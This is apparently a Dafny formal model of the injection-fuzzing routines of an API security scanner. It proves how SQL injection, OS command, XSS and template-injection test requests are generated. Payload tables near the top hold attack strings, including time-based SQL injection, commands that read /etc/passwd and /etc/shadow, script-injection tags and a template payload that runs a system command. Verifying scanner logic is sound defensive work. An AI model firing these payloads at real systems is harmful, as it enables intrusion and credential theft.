/** The families that inject a payload into the string-typed body and query
    parameters of every fuzzed request: `sqli_fuzz_params_test` and
    `__generate_injection_fuzz_params_test` with its OS command, XSS/HTML and
    SSTI payload tables. Both reuse one request object per record across
    payload rounds, overwriting its parameter lists each time. */
module Injection {
  import opened Wrappers
  import opened Json
  import opened OpenApi
  import opened Tasks

  const SqliPayloads: seq<string> := [
    "' OR 1=1 ;--",
    "' UNION SELECT 1,2,3 -- -",
    "' OR '1'='1--",
    "' AND (SELECT * FROM (SELECT(SLEEP(5)))abc)",
    "' AND SLEEP(5) --"
  ]

  const SqliDefaultSuccessCodes: seq<int> := [500]

  /** One entry of a `payloads_data` table. */
  datatype PayloadEntry = PayloadEntry(requestPayload: string, responseMatchRegex: string)

  const RootRegex: string := "root:.*"

  const OsCommandPayloads: seq<PayloadEntry> := [
    PayloadEntry("cat /etc/passwd", RootRegex),
    PayloadEntry("cat /etc/shadow", RootRegex),
    PayloadEntry("ls -la", "total\\s\\d+")
  ]

  const XssPayloads: seq<PayloadEntry> := [
    PayloadEntry("<script>confirm(1)</script>", "<script[^>]*>.*<\\/script>"),
    PayloadEntry("<script>alert(1)</script>", "<script[^>]*>.*<\\/script>"),
    PayloadEntry("<img src=x onerror='javascript:confirm(1),>", "<img[^>]*>")
  ]

  const SstiPayloads: seq<PayloadEntry> := [
    PayloadEntry("${7777+99999}", "107776"),
    PayloadEntry("{{7*'7'}}", "49"),
    PayloadEntry("{{7*'7'}}", "7777777"),
    PayloadEntry("{{ '<script>confirm(1337)</script>' }}", "<script>confirm(1337)</script>"),
    PayloadEntry("{{ '<script>confirm(1337)</script>' | safe }}", "<script>confirm(1337)</script>"),
    PayloadEntry("{{'owasp offat'.toUpperCase()}}", "OWASP OFFAT"),
    PayloadEntry("{{'owasp offat' | upper }}", "OWASP OFFAT"),
    PayloadEntry("<%= system('cat /etc/passwd') %>", "root:.*"),
    PayloadEntry("*{7*7}", "49")
  ]

  /** The request object after its body and query parameters received `p`. */
  function Primed(f: FuzzedRequest, p: string): FuzzedRequest {
    f.(bodyParams := Injected(f.bodyParams, p), queryParams := Injected(f.queryParams, p))
  }

  /** Priming an already primed request object is priming the original. */
  lemma PrimedTwice(f: FuzzedRequest, a: string, b: string)
    ensures Primed(Primed(f, a), b) == Primed(f, b)
  {
    InjectedTwice(f.bodyParams, a, b);
    InjectedTwice(f.queryParams, a, b);
  }

  /** `deepcopy(request_obj)` once the round's keys are set. */
  function RequestTask(testName: string, r: FuzzedRequest, payload: string, codes: Option<seq<int>>,
                       filter: ResponseFilter, regex: Option<string>): Task {
    Task(testName, r.url, r.endpoint, r.httpMethod, r.bodyParams, r.queryParams, r.pathParams,
         Some(r.security), TextPayload(payload), codes, filter, regex)
  }

  function SqliTask(f: FuzzedRequest, p: string, codes: seq<int>): Task {
    RequestTask("SQLi Test", Primed(f, p), p, Some(codes), StatusCodeFilter, None)
  }

  /** One SQLi round: every fuzzed request with payload `p`, in order. */
  function SqliRound(fs: seq<FuzzedRequest>, p: string, codes: seq<int>): (r: seq<Task>)
    ensures |r| == |fs|
    decreases |fs|
  {
    if fs == [] then []
    else SqliRound(fs[..|fs| - 1], p, codes) + [SqliTask(fs[|fs| - 1], p, codes)]
  }

  /** The `j`-th task of a SQLi round is request `j` with the round's payload. */
  lemma {:induction false} SqliRoundAt(fs: seq<FuzzedRequest>, p: string, codes: seq<int>, j: nat)
    requires j < |fs|
    ensures SqliRound(fs, p, codes)[j] == SqliTask(fs[j], p, codes)
    decreases |fs|
  {
    var n := |fs| - 1;
    if j < n {
      SqliRoundAt(fs[..n], p, codes, j);
      assert fs[..n][j] == fs[j];
    }
  }

  /** The SQLi tasks, payload by payload. */
  function SqliTasks(fs: seq<FuzzedRequest>, ps: seq<string>, codes: seq<int>): seq<Task>
    decreases |ps|
  {
    if ps == [] then []
    else SqliTasks(fs, ps[..|ps| - 1], codes) + SqliRound(fs, ps[|ps| - 1], codes)
  }

  /** `m` blocks of `n` tasks, as repeated addition so that block offsets
      stay linear. */
  function Blocks(m: nat, n: nat): nat {
    if m == 0 then 0 else Blocks(m - 1, n) + n
  }

  lemma {:induction false} BlocksIsProduct(m: nat, n: nat)
    ensures Blocks(m, n) == m * n
  {
    if m > 0 {
      BlocksIsProduct(m - 1, n);
      assert m * n == (m - 1) * n + n;
    }
  }

  lemma SqliRoundSnoc(fs: seq<FuzzedRequest>, j: nat, p: string, codes: seq<int>)
    requires j < |fs|
    ensures SqliRound(fs[..j + 1], p, codes) == SqliRound(fs[..j], p, codes) + [SqliTask(fs[j], p, codes)]
  {
    assert fs[..j + 1][..j] == fs[..j] && fs[..j + 1][j] == fs[j];
  }

  lemma {:induction false} SqliTasksLength(fs: seq<FuzzedRequest>, ps: seq<string>, codes: seq<int>)
    ensures |SqliTasks(fs, ps, codes)| == Blocks(|ps|, |fs|)
    decreases |ps|
  {
    if ps != [] {
      SqliTasksLength(fs, ps[..|ps| - 1], codes);
    }
  }

  /** Adding a payload keeps the earlier blocks where they were. */
  lemma SqliTasksPrefix(fs: seq<FuzzedRequest>, ps: seq<string>, codes: seq<int>, i: nat)
    requires ps != [] && i < |SqliTasks(fs, ps[..|ps| - 1], codes)|
    ensures i < |SqliTasks(fs, ps, codes)|
    ensures SqliTasks(fs, ps, codes)[i] == SqliTasks(fs, ps[..|ps| - 1], codes)[i]
  {
  }

  /** The last payload's round follows the earlier blocks. */
  lemma SqliTasksLast(fs: seq<FuzzedRequest>, ps: seq<string>, codes: seq<int>, j: nat)
    requires ps != [] && j < |fs|
    ensures Blocks(|ps| - 1, |fs|) + j < |SqliTasks(fs, ps, codes)|
    ensures SqliTasks(fs, ps, codes)[Blocks(|ps| - 1, |fs|) + j] == SqliTask(fs[j], ps[|ps| - 1], codes)
  {
    SqliTasksLength(fs, ps[..|ps| - 1], codes);
    SqliRoundAt(fs, ps[|ps| - 1], codes, j);
  }

  /** Block `k` of the SQLi tasks holds request `j` with payload `k` at
      offset `j`. */
  lemma {:induction false} SqliTaskAtBlock(fs: seq<FuzzedRequest>, ps: seq<string>, codes: seq<int>, k: nat, j: nat)
    requires k < |ps| && j < |fs|
    ensures Blocks(k, |fs|) + j < |SqliTasks(fs, ps, codes)|
    ensures SqliTasks(fs, ps, codes)[Blocks(k, |fs|) + j] == SqliTask(fs[j], ps[k], codes)
    decreases |ps|
  {
    var m := |ps| - 1;
    if k < m {
      var init := ps[..m];
      SqliTaskAtBlock(fs, init, codes, k, j);
      SqliTasksPrefix(fs, ps, codes, Blocks(k, |fs|) + j);
      assert init[k] == ps[k];
    } else {
      SqliTasksLast(fs, ps, codes, j);
    }
  }

  /** The SQLi family emits its tasks in payload-major order: task
      `k * |fs| + j` is request `j` with payload `k`. */
  lemma SqliTaskAt(fs: seq<FuzzedRequest>, ps: seq<string>, codes: seq<int>, k: nat, j: nat)
    requires k < |ps| && j < |fs|
    ensures k * |fs| + j < |SqliTasks(fs, ps, codes)|
    ensures SqliTasks(fs, ps, codes)[k * |fs| + j] == SqliTask(fs[j], ps[k], codes)
  {
    SqliTaskAtBlock(fs, ps, codes, k, j);
    BlocksIsProduct(k, |fs|);
  }

  /** The SQLi family emits |payloads| x |requests| tasks. */
  lemma SqliTaskCount(fs: seq<FuzzedRequest>, ps: seq<string>, codes: seq<int>)
    ensures |SqliTasks(fs, ps, codes)| == |ps| * |fs|
  {
    SqliTasksLength(fs, ps, codes);
    BlocksIsProduct(|ps|, |fs|);
  }

  /** Every string-typed body or query parameter of a SQLi task carries its
      payload, and the payload is recorded as `malicious_payload`. */
  lemma SqliTaskCarriesPayload(f: FuzzedRequest, p: string, codes: seq<int>)
    ensures var t := SqliTask(f, p, codes);
      && t.maliciousPayload == TextPayload(p) && t.successCodes == Some(codes)
      && |t.bodyParams| == |f.bodyParams| && |t.queryParams| == |f.queryParams|
      && (forall i :: 0 <= i < |f.bodyParams| && IsStringParam(f.bodyParams[i]) ==>
            Lookup(t.bodyParams[i], "value") == Some(JStr(p)))
      && (forall i :: 0 <= i < |f.queryParams| && IsStringParam(f.queryParams[i]) ==>
            Lookup(t.queryParams[i], "value") == Some(JStr(p)))
  {
    InjectedMeaning(f.bodyParams, p);
    InjectedMeaning(f.queryParams, p);
  }

  /** A request object at the start of a round: as fuzzed in the first round,
      primed with the previous round's payload afterwards. */
  function Carried(f: FuzzedRequest, prev: Option<string>): FuzzedRequest {
    if prev.Some? then Primed(f, prev.value) else f
  }

  lemma Reprime(f: FuzzedRequest, prev: Option<string>, p: string)
    ensures Primed(Carried(f, prev), p) == Primed(f, p)
  {
    if prev.Some? {
      PrimedTwice(f, prev.value, p);
    }
  }

  /** The payload of the round before round `k`, if any. */
  function Previous<T>(ps: seq<T>, k: nat): Option<T>
    requires k <= |ps|
  {
    if k == 0 then None else Some(ps[k - 1])
  }

  /** A SQLi round over request objects already primed with `prev` is the
      round over the fuzzed requests themselves. */
  lemma {:induction false} SqliRoundCarried(rs: seq<FuzzedRequest>, fs: seq<FuzzedRequest>, prev: Option<string>, p: string, codes: seq<int>)
    requires |rs| == |fs|
    requires forall j :: 0 <= j < |fs| ==> rs[j] == Carried(fs[j], prev)
    ensures SqliRound(rs, p, codes) == SqliRound(fs, p, codes)
    decreases |fs|
  {
    if fs != [] {
      var n := |fs| - 1;
      SqliRoundCarried(rs[..n], fs[..n], prev, p, codes);
      Reprime(fs[n], prev, p);
    }
  }

  /** The inner loop of `sqli_fuzz_params_test`: inject `payload` into every
      request object, store it back and copy it into a task. */
  method SqliRoundInPlace(requests: seq<FuzzedRequest>, payload: string, codes: seq<int>)
    returns (updated: seq<FuzzedRequest>, round: seq<Task>)
    ensures |updated| == |requests|
    ensures forall j :: 0 <= j < |requests| ==> updated[j] == Primed(requests[j], payload)
    ensures round == SqliRound(requests, payload, codes)
  {
    updated := requests;
    round := [];
    var j := 0;
    while j < |updated|
      invariant 0 <= j <= |updated| == |requests|
      invariant round == SqliRound(requests[..j], payload, codes)
      invariant forall j' :: 0 <= j' < j ==> updated[j'] == Primed(requests[j'], payload)
      invariant forall j' :: j <= j' < |requests| ==> updated[j'] == requests[j']
    {
      var r := updated[j];
      var bodyParams := InjectPayloadInParams(r.bodyParams, payload);
      var queryParams := InjectPayloadInParams(r.queryParams, payload);
      r := r.(bodyParams := bodyParams, queryParams := queryParams);
      updated := updated[j := r];
      SqliRoundSnoc(requests, j, payload, codes);
      round := round + [RequestTask("SQLi Test", r, payload, Some(codes), StatusCodeFilter, None)];
      j := j + 1;
    }
    assert requests[..j] == requests;
  }

  /** The rounds of `sqli_fuzz_params_test`, one per payload. The request
      objects are updated in place each round and copied into the task list,
      so round `k` injects into the lists round `k - 1` left behind. */
  method SqliRounds(fs: seq<FuzzedRequest>, payloads: seq<string>, codes: seq<int>) returns (tasks: seq<Task>)
    ensures tasks == SqliTasks(fs, payloads, codes)
  {
    var requests := fs;
    tasks := [];
    var k := 0;
    while k < |payloads|
      invariant 0 <= k <= |payloads| && |requests| == |fs|
      invariant tasks == SqliTasks(fs, payloads[..k], codes)
      invariant forall j :: 0 <= j < |fs| ==> requests[j] == Carried(fs[j], Previous(payloads, k))
    {
      var payload := payloads[k];
      ghost var prev := Previous(payloads, k);
      var updated, round := SqliRoundInPlace(requests, payload, codes);
      SqliRoundCarried(requests, fs, prev, payload, codes);
      forall j | 0 <= j < |fs|
        ensures updated[j] == Carried(fs[j], Some(payload))
      {
        Reprime(fs[j], prev, payload);
      }
      assert payloads[..k + 1][..k] == payloads[..k];
      assert Previous(payloads, k + 1) == Some(payload);
      requests := updated;
      tasks := tasks + round;
      k := k + 1;
    }
    assert payloads[..k] == payloads;
  }

  /** `sqli_fuzz_params_test`: every fuzzed request with every SQLi payload,
      payload by payload. */
  method SqliFuzzParamsTest(parser: OpenApiV3Parser, h: Helpers, successCodes: Option<seq<int>>)
    returns (tasks: seq<Task>)
    ensures tasks == SqliTasks(FuzzedRequests(ApiOf(parser), h, SqliParams), SqliPayloads,
                               successCodes.GetOr(SqliDefaultSuccessCodes))
    ensures |tasks| == 5 * |FuzzedRequests(ApiOf(parser), h, SqliParams)|
  {
    var codes := successCodes.GetOr(SqliDefaultSuccessCodes);
    var fs := FuzzRequestParams(parser, h, SqliParams);
    tasks := SqliRounds(fs, SqliPayloads, codes);
    SqliTaskCount(fs, SqliPayloads, codes);
  }

  /** `len(body_params) == 0 and len(query_params) == 0` decides the skip. */
  predicate Fuzzable(f: FuzzedRequest) {
    |f.bodyParams| > 0 || |f.queryParams| > 0
  }

  function CountFuzzable(fs: seq<FuzzedRequest>): nat
    decreases |fs|
  {
    if fs == [] then 0 else CountFuzzable(fs[..|fs| - 1]) + (if Fuzzable(fs[|fs| - 1]) then 1 else 0)
  }

  function InjectionTask(f: FuzzedRequest, testName: string, e: PayloadEntry): Task {
    RequestTask(testName, Primed(f, e.requestPayload), e.requestPayload, None, BodyRegexFilter, Some(e.responseMatchRegex))
  }

  /** One round of `__generate_injection_fuzz_params_test`: the requests that
      have a body or query parameter, with payload entry `e`. */
  function InjectionRound(fs: seq<FuzzedRequest>, testName: string, e: PayloadEntry): (r: seq<Task>)
    ensures |r| == CountFuzzable(fs)
    decreases |fs|
  {
    if fs == [] then []
    else
      var f := fs[|fs| - 1];
      InjectionRound(fs[..|fs| - 1], testName, e) + (if Fuzzable(f) then [InjectionTask(f, testName, e)] else [])
  }

  /** Every task of a round is the task of a request that has a body or
      query parameter. */
  lemma {:induction false} InjectionRoundSound(fs: seq<FuzzedRequest>, testName: string, e: PayloadEntry, t: Task)
    requires t in InjectionRound(fs, testName, e)
    ensures exists j :: 0 <= j < |fs| && Fuzzable(fs[j]) && t == InjectionTask(fs[j], testName, e)
    decreases |fs|
  {
    assert fs != [];
    var n := |fs| - 1;
    var init := fs[..n];
    if t in InjectionRound(init, testName, e) {
      InjectionRoundSound(init, testName, e, t);
      var j :| 0 <= j < n && Fuzzable(init[j]) && t == InjectionTask(init[j], testName, e);
      assert init[j] == fs[j];
    } else {
      assert Fuzzable(fs[n]) && t == InjectionTask(fs[n], testName, e);
    }
  }

  /** Every request that has a body or query parameter gets its task in the round. */
  lemma {:induction false} InjectionRoundComplete(fs: seq<FuzzedRequest>, testName: string, e: PayloadEntry, j: nat)
    requires j < |fs| && Fuzzable(fs[j])
    ensures InjectionTask(fs[j], testName, e) in InjectionRound(fs, testName, e)
    decreases |fs|
  {
    var n := |fs| - 1;
    if j < n {
      InjectionRoundComplete(fs[..n], testName, e, j);
      assert fs[..n][j] == fs[j];
    }
  }

  lemma InjectionRoundSnoc(fs: seq<FuzzedRequest>, j: nat, testName: string, e: PayloadEntry)
    requires j < |fs|
    ensures InjectionRound(fs[..j + 1], testName, e) ==
      InjectionRound(fs[..j], testName, e) + (if Fuzzable(fs[j]) then [InjectionTask(fs[j], testName, e)] else [])
  {
    assert fs[..j + 1][..j] == fs[..j] && fs[..j + 1][j] == fs[j];
  }

  /** The regex-matched tasks, payload entry by payload entry. */
  function InjectionTasks(fs: seq<FuzzedRequest>, testName: string, es: seq<PayloadEntry>): seq<Task>
    decreases |es|
  {
    if es == [] then []
    else InjectionTasks(fs, testName, es[..|es| - 1]) + InjectionRound(fs, testName, es[|es| - 1])
  }

  lemma {:induction false} InjectionTasksLength(fs: seq<FuzzedRequest>, testName: string, es: seq<PayloadEntry>)
    ensures |InjectionTasks(fs, testName, es)| == Blocks(|es|, CountFuzzable(fs))
    decreases |es|
  {
    if es != [] {
      InjectionTasksLength(fs, testName, es[..|es| - 1]);
    }
  }

  /** Requests with neither body nor query parameters get no task; every other
      request gets one task per payload entry, which carries that entry's
      payload and regex, is matched by `BODY_REGEX_FILTER` and has no
      `success_codes`. */
  lemma {:induction false} InjectionTasksShape(fs: seq<FuzzedRequest>, testName: string, es: seq<PayloadEntry>)
    ensures |InjectionTasks(fs, testName, es)| == |es| * CountFuzzable(fs)
    ensures forall t :: t in InjectionTasks(fs, testName, es) ==>
      && t.testName == testName && t.responseFilter == BodyRegexFilter && t.successCodes == None
      && exists e :: e in es && t.maliciousPayload == TextPayload(e.requestPayload)
                    && t.responseMatchRegex == Some(e.responseMatchRegex)
    decreases |es|
  {
    InjectionTasksLength(fs, testName, es);
    BlocksIsProduct(|es|, CountFuzzable(fs));
    if es != [] {
      var init := es[..|es| - 1];
      var e := es[|es| - 1];
      InjectionTasksShape(fs, testName, init);
      var round := InjectionRound(fs, testName, e);
      forall t | t in round
        ensures && t.testName == testName && t.responseFilter == BodyRegexFilter && t.successCodes == None
                && exists e' :: e' in es && t.maliciousPayload == TextPayload(e'.requestPayload)
                               && t.responseMatchRegex == Some(e'.responseMatchRegex)
      {
        InjectionRoundSound(fs, testName, e, t);
        var j :| 0 <= j < |fs| && Fuzzable(fs[j]) && t == InjectionTask(fs[j], testName, e);
        assert e in es;
      }
      forall t | t in InjectionTasks(fs, testName, init)
        ensures exists e' :: e' in es && t.maliciousPayload == TextPayload(e'.requestPayload)
                             && t.responseMatchRegex == Some(e'.responseMatchRegex)
      {
        var e' :| e' in init && t.maliciousPayload == TextPayload(e'.requestPayload)
                  && t.responseMatchRegex == Some(e'.responseMatchRegex);
        assert e' in es;
      }
    }
  }

  /** The request object as a round of the regex families finds it: requests
      that are skipped are never written. */
  function CarriedIfFuzzable(f: FuzzedRequest, prev: Option<string>): FuzzedRequest {
    if Fuzzable(f) then Carried(f, prev) else f
  }

  /** A round of the regex families over request objects left by the previous
      round is the round over the fuzzed requests themselves. */
  lemma {:induction false} InjectionRoundCarried(rs: seq<FuzzedRequest>, fs: seq<FuzzedRequest>, prev: Option<string>,
                                                 testName: string, e: PayloadEntry)
    requires |rs| == |fs|
    requires forall j :: 0 <= j < |fs| ==> rs[j] == CarriedIfFuzzable(fs[j], prev)
    ensures InjectionRound(rs, testName, e) == InjectionRound(fs, testName, e)
    decreases |fs|
  {
    if fs != [] {
      var n := |fs| - 1;
      InjectionRoundCarried(rs[..n], fs[..n], prev, testName, e);
      Reprime(fs[n], prev, e.requestPayload);
      assert Fuzzable(rs[n]) == Fuzzable(fs[n]);
    }
  }

  /** The request object after one round of the regex families. */
  function Stepped(f: FuzzedRequest, p: string): FuzzedRequest {
    if Fuzzable(f) then Primed(f, p) else f
  }

  lemma Restep(f: FuzzedRequest, prev: Option<string>, p: string)
    ensures Stepped(CarriedIfFuzzable(f, prev), p) == CarriedIfFuzzable(f, Some(p))
  {
    Reprime(f, prev, p);
  }

  /** One iteration of the inner loop of `__generate_injection_fuzz_params_test`:
      a request with neither body nor query parameters is skipped, any other
      is injected, stored back and copied into a task. */
  method InjectionStep(r: FuzzedRequest, testName: string, entry: PayloadEntry)
    returns (r': FuzzedRequest, emitted: seq<Task>)
    ensures r' == Stepped(r, entry.requestPayload)
    ensures emitted == if Fuzzable(r) then [InjectionTask(r, testName, entry)] else []
  {
    if |r.bodyParams| == 0 && |r.queryParams| == 0 {
      return r, [];
    }
    var bodyParams := InjectPayloadInParams(r.bodyParams, entry.requestPayload);
    var queryParams := InjectPayloadInParams(r.queryParams, entry.requestPayload);
    r' := r.(bodyParams := bodyParams, queryParams := queryParams);
    emitted := [RequestTask(testName, r', entry.requestPayload, None, BodyRegexFilter, Some(entry.responseMatchRegex))];
  }

  /** The inner loop of `__generate_injection_fuzz_params_test`. */
  method InjectionRoundInPlace(requests: seq<FuzzedRequest>, testName: string, entry: PayloadEntry)
    returns (updated: seq<FuzzedRequest>, round: seq<Task>)
    ensures |updated| == |requests|
    ensures forall j :: 0 <= j < |requests| ==> updated[j] == Stepped(requests[j], entry.requestPayload)
    ensures round == InjectionRound(requests, testName, entry)
  {
    updated := requests;
    round := [];
    var j := 0;
    while j < |updated|
      invariant 0 <= j <= |updated| == |requests|
      invariant round == InjectionRound(requests[..j], testName, entry)
      invariant forall j' :: 0 <= j' < j ==> updated[j'] == Stepped(requests[j'], entry.requestPayload)
      invariant forall j' :: j <= j' < |requests| ==> updated[j'] == requests[j']
    {
      var r, emitted := InjectionStep(updated[j], testName, entry);
      InjectionRoundSnoc(requests, j, testName, entry);
      updated := updated[j := r];
      round := round + emitted;
      j := j + 1;
    }
    assert requests[..j] == requests;
  }

  /** The payload of the entry before entry `k`, if any. */
  function PreviousPayload(es: seq<PayloadEntry>, k: nat): Option<string>
    requires k <= |es|
  {
    if k == 0 then None else Some(es[k - 1].requestPayload)
  }

  /** The rounds of `__generate_injection_fuzz_params_test`, one per payload
      entry. As in the SQLi family, each request object keeps the parameter
      lists the previous round wrote. */
  method InjectionRounds(fs: seq<FuzzedRequest>, testName: string, payloads: seq<PayloadEntry>)
    returns (tasks: seq<Task>)
    ensures tasks == InjectionTasks(fs, testName, payloads)
  {
    var requests := fs;
    tasks := [];
    var k := 0;
    while k < |payloads|
      invariant 0 <= k <= |payloads| && |requests| == |fs|
      invariant tasks == InjectionTasks(fs, testName, payloads[..k])
      invariant forall j :: 0 <= j < |fs| ==> requests[j] == CarriedIfFuzzable(fs[j], PreviousPayload(payloads, k))
    {
      var entry := payloads[k];
      ghost var prev := PreviousPayload(payloads, k);
      var updated, round := InjectionRoundInPlace(requests, testName, entry);
      InjectionRoundCarried(requests, fs, prev, testName, entry);
      forall j | 0 <= j < |fs|
        ensures updated[j] == CarriedIfFuzzable(fs[j], Some(entry.requestPayload))
      {
        Restep(fs[j], prev, entry.requestPayload);
      }
      assert payloads[..k + 1][..k] == payloads[..k];
      assert PreviousPayload(payloads, k + 1) == Some(entry.requestPayload);
      requests := updated;
      tasks := tasks + round;
      k := k + 1;
    }
    assert payloads[..k] == payloads;
  }

  /** `__generate_injection_fuzz_params_test`, called by `family`. */
  method GenerateInjectionFuzzParamsTest(parser: OpenApiV3Parser, h: Helpers, family: Family, testName: string,
                                         payloads: seq<PayloadEntry>)
    returns (tasks: seq<Task>)
    ensures tasks == InjectionTasks(FuzzedRequests(ApiOf(parser), h, family), testName, payloads)
  {
    var fs := FuzzRequestParams(parser, h, family);
    tasks := InjectionRounds(fs, testName, payloads);
  }

  /** `os_command_injection_fuzz_params_test`: three payloads per request
      that has a body or query parameter. */
  method OsCommandInjectionFuzzParamsTest(parser: OpenApiV3Parser, h: Helpers) returns (tasks: seq<Task>)
    ensures tasks == InjectionTasks(FuzzedRequests(ApiOf(parser), h, OsCommandInjection), "OS Command Injection Test", OsCommandPayloads)
    ensures |tasks| == 3 * CountFuzzable(FuzzedRequests(ApiOf(parser), h, OsCommandInjection))
  {
    tasks := GenerateInjectionFuzzParamsTest(parser, h, OsCommandInjection, "OS Command Injection Test", OsCommandPayloads);
    InjectionTasksShape(FuzzedRequests(ApiOf(parser), h, OsCommandInjection), "OS Command Injection Test", OsCommandPayloads);
  }

  /** `xss_html_injection_fuzz_params_test`: three payloads per request that
      has a body or query parameter. */
  method XssHtmlInjectionFuzzParamsTest(parser: OpenApiV3Parser, h: Helpers) returns (tasks: seq<Task>)
    ensures tasks == InjectionTasks(FuzzedRequests(ApiOf(parser), h, XssHtmlInjection), "XSS/HTML Injection Test", XssPayloads)
    ensures |tasks| == 3 * CountFuzzable(FuzzedRequests(ApiOf(parser), h, XssHtmlInjection))
  {
    tasks := GenerateInjectionFuzzParamsTest(parser, h, XssHtmlInjection, "XSS/HTML Injection Test", XssPayloads);
    InjectionTasksShape(FuzzedRequests(ApiOf(parser), h, XssHtmlInjection), "XSS/HTML Injection Test", XssPayloads);
  }

  /** `ssti_fuzz_params_test`: nine payloads per request that has a body or
      query parameter. */
  method SstiFuzzParamsTest(parser: OpenApiV3Parser, h: Helpers) returns (tasks: seq<Task>)
    ensures tasks == InjectionTasks(FuzzedRequests(ApiOf(parser), h, Ssti), "SSTI Test", SstiPayloads)
    ensures |tasks| == 9 * CountFuzzable(FuzzedRequests(ApiOf(parser), h, Ssti))
  {
    tasks := GenerateInjectionFuzzParamsTest(parser, h, Ssti, "SSTI Test", SstiPayloads);
    InjectionTasksShape(FuzzedRequests(ApiOf(parser), h, Ssti), "SSTI Test", SstiPayloads);
  }
}
